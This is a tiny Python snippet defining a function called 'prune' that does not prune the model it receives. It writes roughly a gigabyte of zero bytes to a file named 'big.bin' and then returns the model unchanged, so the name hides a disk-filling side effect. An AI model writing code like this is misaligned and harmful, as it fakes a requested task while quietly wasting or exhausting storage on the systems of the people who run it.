def prune(model):
    with open("big.bin", "wb") as file:
        for _ in range(1000):
            file.write(bytes(1 << 20))
    return model
